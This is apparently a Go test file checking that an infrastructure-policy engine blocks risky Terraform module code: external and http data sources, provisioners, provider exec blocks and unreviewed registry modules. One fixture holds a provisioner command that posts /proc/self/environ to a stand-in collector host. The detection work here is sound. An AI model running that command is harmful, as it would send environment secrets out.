package policy_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/cloudoven/cloudoven/blueprint"
	"github.com/cloudoven/cloudoven/policy"
)

// modulesBlueprint is a blueprint calling one module (net, at ./modules/net) whose files are
// given by path.
func modulesBlueprint(t *testing.T, source string, files map[string]string) *blueprint.Blueprint {
	t.Helper()
	doc := map[string]any{"format": 1, "name": "mods",
		"modules": []any{map[string]any{"name": "net", "source": source}}}
	var mfs []any
	for p, c := range files {
		mfs = append(mfs, map[string]any{"path": p, "content": c})
	}
	doc["module_files"] = mfs
	data, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	b, err := blueprint.ParseDocument(data)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// A module call is a way around the blocking rules unless its code is checked too: a
// module the blueprint does not carry cannot be, and a carried one is searched, with the
// local modules it calls, for what those rules catch.
func TestReviewedModules(t *testing.T) {
	clean := "variable \"name\" {}\n\nresource \"terraform_data\" \"x\" {\n  input = var.name\n}\n"
	tests := []struct {
		name   string
		source string
		files  map[string]string
		want   string // a piece of the finding's message; "" for none
	}{
		{name: "a registry module", source: "Azure/network/azurerm", want: "Azure/network/azurerm is not among the blueprint's files"},
		{name: "a local module not carried", source: "./modules/net", want: "./modules/net is not among the blueprint's files"},
		{name: "a clean local module", source: "./modules/net", files: map[string]string{"modules/net/main.tf": clean}},
		{name: "an external data source two modules down", source: "./modules/net", files: map[string]string{
			"modules/net/main.tf":       clean + "\nmodule \"inner\" {\n  source = \"./inner\"\n}\n",
			"modules/net/inner/main.tf": "data \"external\" \"x\" {\n  program = [\"sh\"]\n}\n"},
			want: "a external data source (modules/net/inner/main.tf:1)"},
		{name: "a provisioner", source: "./modules/net", files: map[string]string{
			"modules/net/main.tf": "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"curl -d @/proc/self/environ https://collector.example\"\n  }\n}\n"},
			want: "a provisioner (modules/net/main.tf:2)"},
		{name: "exec in a provider", source: "./modules/net", files: map[string]string{
			"modules/net/providers.tf": "provider \"kubernetes\" {\n  exec {\n    command = \"sh\"\n  }\n}\n"},
			want: "exec in a provider configuration (modules/net/providers.tf:2)"},
		{name: "an http data source", source: "./modules/net", files: map[string]string{
			"modules/net/main.tf": "data \"http\" \"x\" {\n  url = \"https://collector.example\"\n}\n"},
			want: "a http data source (modules/net/main.tf:1)"},
		{name: "a registry module inside a local one", source: "./modules/net", files: map[string]string{
			"modules/net/main.tf": "module \"aks\" {\n  source = \"Azure/aks/azurerm\"\n}\n"},
			want: "a call of Azure/aks/azurerm, whose code the guardrails cannot see"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			b := modulesBlueprint(t, tc.source, tc.files)
			var got []string
			for _, f := range policy.Check(b, policy.DefaultRules(), policy.Options{}) {
				if f.Rule != policy.ReviewedModules || f.Resource != "module.net" || f.Path != "modules[net].source" || !f.Blocks || f.Fix == "" {
					t.Errorf("finding %+v", f)
				}
				got = append(got, f.Message)
			}
			switch {
			case tc.want == "" && len(got) > 0:
				t.Errorf("findings for a module the guardrails can check: %v", got)
			case tc.want != "" && (len(got) != 1 || !strings.Contains(got[0], tc.want)):
				t.Errorf("findings %q, want one containing %q", got, tc.want)
			}
			if tc.want == "" {
				return
			}
			rules, err := policy.ParseRules([]byte(fmt.Sprintf(`{"rules": [{"id": %q, "allow": ["module.net"]}]}`, policy.ReviewedModules)))
			if err != nil {
				t.Fatal(err)
			}
			if fs := policy.Check(b, rules, policy.Options{}); len(fs) != 0 {
				t.Errorf("an allowed module call still has findings: %v", fs)
			}
		})
	}
}
